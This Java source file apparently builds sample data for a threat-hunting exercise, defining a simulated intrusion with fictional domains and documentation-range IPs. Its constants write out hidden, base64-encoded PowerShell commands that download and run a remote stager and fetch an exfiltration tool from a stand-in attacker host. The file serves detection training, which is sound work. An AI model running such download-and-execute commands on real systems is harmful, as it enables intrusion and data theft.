package io.huntbook.data.sample;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;

/**
 * The intrusion planted in the sample data, on the anchor day (UTC): a password spray against Contoso's Entra ID
 * accounts, a successful sign-in as {@link #USER} from a malicious IP, an RDP logon to {@link #HOST} from that IP,
 * encoded PowerShell that pulls a stager and a renamed rclone, beaconing to {@link #C2_DOMAIN}, staging of the
 * finance share and its exfiltration to {@link #EXFIL_DOMAIN}. The indicators are the same for every seed; all
 * addresses are from the documentation ranges (RFC 5737) and the domains under {@code huntbook-sample.net} are
 * fictional.
 *
 * @param anchor the day of the intrusion
 */
public record Story(LocalDate anchor) {
    public static final String USER = "MeganB@contoso.com";
    public static final String ACCOUNT = "CONTOSO\\MeganB";
    public static final String HOST = "WS07";
    public static final String HOST_IP = "10.10.1.17";
    public static final String SPRAY_IP = "203.0.113.45";
    public static final String ATTACKER_IP = "203.0.113.66";
    public static final String EXFIL_IP = "203.0.113.99";
    public static final String C2_DOMAIN = "update-cdn.huntbook-sample.net";
    public static final String EXFIL_DOMAIN = "files.huntbook-sample.net";
    public static final String STAGER_URL = "https://" + C2_DOMAIN + "/s/init.ps1";
    public static final String TOOL_URL = "https://" + C2_DOMAIN + "/d/msupdate.exe";
    public static final String TOOL_PATH = "C:\\Users\\Public\\Libraries\\msupdate.exe";
    /** The SHA-256 the sample gives the renamed rclone binary (a made-up value, not a real file's). */
    public static final String TOOL_SHA256 = "5f1c3a9e7b2d4c6e8f0a1b3c5d7e9f2a4b6c8d0e1f3a5b7c9d2e4f6a8b0c1d3e";
    public static final String STAGING_FOLDER = "C:\\Users\\Public\\Libraries\\stage";
    public static final String LOGON_ID = "0x5a3c91";

    /** The script of the first encoded PowerShell command. */
    public static final String STAGER_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + STAGER_URL + "')";
    /** The script of the second: it fetches the exfiltration tool. */
    public static final String DOWNLOAD_SCRIPT = "(New-Object Net.WebClient).DownloadFile('" + TOOL_URL + "','"
            + TOOL_PATH + "')";

    /** {@code -enc} takes base64 of UTF-16LE text. */
    public static String encode(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    public static final String STAGER_COMMAND_LINE = "powershell.exe -nop -w hidden -enc " + encode(STAGER_SCRIPT);
    public static final String DOWNLOAD_COMMAND_LINE = "powershell.exe -nop -w hidden -enc " + encode(DOWNLOAD_SCRIPT);

    /** A time on the anchor day. */
    public Instant at(int hour, int minute, int second) {
        return anchor.atTime(LocalTime.of(hour, minute, second)).toInstant(ZoneOffset.UTC);
    }

    public Instant sprayStart() {
        return at(0, 41, 7);
    }

    public Instant sprayEnd() {
        return at(1, 6, 40);
    }

    public Instant maliciousSignIn() {
        return at(1, 22, 15);
    }

    public Instant rdpLogon() {
        return at(1, 35, 2);
    }

    public Instant encodedPowerShell() {
        return at(1, 41, 33);
    }

    public Instant beaconStart() {
        return at(1, 48, 0);
    }

    public Instant beaconEnd() {
        return at(8, 30, 0);
    }

    public Instant staging() {
        return at(3, 10, 12);
    }

    public Instant exfiltrationStart() {
        return at(4, 5, 0);
    }

    public Instant exfiltrationEnd() {
        return at(4, 41, 0);
    }

    /** One entry of the local threat-intel list. */
    public record Indicator(String ioc, String iocType, String severity, String details, Instant firstSeen) {}

    /** The local threat-intel list: every indicator of the story, and a few that the data does not contain. */
    public List<Indicator> indicators() {
        Instant seen = anchor.minusDays(20).atStartOfDay().toInstant(ZoneOffset.UTC);
        return List.of(
                new Indicator(SPRAY_IP, "ipv4", "medium", "Password-spray source seen against many tenants", seen),
                new Indicator(ATTACKER_IP, "ipv4", "high", "Command-and-control server and source of account takeover sign-ins", seen),
                new Indicator(EXFIL_IP, "ipv4", "high", "Exfiltration endpoint used with rclone", seen),
                new Indicator(C2_DOMAIN, "dns", "high", "Command-and-control domain; beacons about every 60 seconds", seen),
                new Indicator(EXFIL_DOMAIN, "dns", "high", "Exfiltration domain", seen),
                new Indicator(STAGER_URL, "url", "high", "PowerShell stager", seen),
                new Indicator(TOOL_SHA256, "sha256_hash", "high", "rclone renamed msupdate.exe, used for exfiltration", seen),
                new Indicator("192.0.2.200", "ipv4", "low", "Scanner seen on the internet; not in this data", seen),
                new Indicator("login-contoso.huntbook-sample.net", "dns", "medium", "Phishing domain; not in this data", seen));
    }
}
